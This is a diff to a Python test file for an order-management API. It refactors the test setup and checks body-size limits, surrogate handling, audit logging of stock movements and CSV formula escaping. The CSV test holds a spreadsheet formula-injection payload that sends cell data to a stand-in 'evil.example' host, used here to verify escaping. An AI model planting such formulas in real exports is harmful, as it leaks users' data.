@@ -12,8 +12,7 @@ import csv
 import io
 import json
 import uuid
-from collections.abc import AsyncIterator, Iterator
-from contextlib import contextmanager
+from collections.abc import AsyncIterator
 from pathlib import Path
 
 import httpx
@@ -22,36 +21,20 @@ from sqlalchemy import select
 from temporalio.client import Client
 
 from oms.store.db import Database
-from oms.store.migrate import upgrade
-from oms.store.seed import STOCK, seed_demo
+from oms.store.seed import STOCK
 from oms.store.tables import StockMovementRow
 
-from stack import api_socket, order_body, running_api, stack_settings
+from stack import api_alone, order_body
 
 pytestmark = [pytest.mark.timeout(120)]
 
 MIB = 1024 * 1024
 
 
-@contextmanager
-def _api(temporal_client: Client, sqlite_url: str, tmp_path: Path) -> Iterator[str]:
-    """The real API on a seeded SQLite store (no worker: nothing here starts a workflow)."""
-    sock = api_socket()
-    address = temporal_client.service_client.config.target_host
-    settings = stack_settings(sqlite_url, address, tmp_path, api_port=sock.getsockname()[1])
-    upgrade(settings.database_url)
-    db = Database(settings.database_url)
-    with db.session() as session:
-        seed_demo(session)
-    db.dispose()
-    with running_api(settings, sock) as url:
-        yield url
-
-
 async def test_a_large_body_is_refused_with_413_before_the_token_check(
     temporal_client: Client, sqlite_url: str, tmp_path: Path
 ) -> None:
-    with _api(temporal_client, sqlite_url, tmp_path) as url:
+    with api_alone(temporal_client, sqlite_url, tmp_path) as (url, _):
         async with httpx.AsyncClient(base_url=url, timeout=30) as anonymous:
             big = b'{"x": "' + b"a" * (5 * MIB) + b'"}'
             declared = await anonymous.post(
@@ -76,7 +59,7 @@ async def test_a_large_body_is_refused_with_413_before_the_token_check(
 async def test_lone_surrogates_are_a_422_naming_the_field(
     temporal_client: Client, sqlite_url: str, tmp_path: Path
 ) -> None:
-    with _api(temporal_client, sqlite_url, tmp_path) as url:
+    with api_alone(temporal_client, sqlite_url, tmp_path) as (url, _):
         headers = {"Authorization": "Bearer dev-admin", "content-type": "application/json"}
         async with httpx.AsyncClient(base_url=url, timeout=30, headers=headers) as admin:
             body = order_body(f"L-{uuid.uuid4().hex[:8]}", [("CAP-NVY", 1, "249.00")])
@@ -102,7 +85,7 @@ async def test_lone_surrogates_are_a_422_naming_the_field(
 async def test_report_csv_cells_that_would_run_as_formulas_are_escaped(
     temporal_client: Client, sqlite_url: str, tmp_path: Path
 ) -> None:
-    with _api(temporal_client, sqlite_url, tmp_path) as url:
+    with api_alone(temporal_client, sqlite_url, tmp_path) as (url, _):
         headers = {"Authorization": "Bearer dev-admin"}
         async with httpx.AsyncClient(base_url=url, timeout=30, headers=headers) as admin:
             formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -125,7 +108,7 @@ async def test_report_csv_cells_that_would_run_as_formulas_are_escaped(
 async def test_every_stock_change_is_a_movement_with_who_and_why(
     temporal_client: Client, sqlite_url: str, tmp_path: Path
 ) -> None:
-    with _api(temporal_client, sqlite_url, tmp_path) as url:
+    with api_alone(temporal_client, sqlite_url, tmp_path) as (url, _):
         headers = {"Authorization": "Bearer dev-warehouse"}
         async with httpx.AsyncClient(base_url=url, timeout=30, headers=headers) as warehouse:
             counted = await warehouse.put(
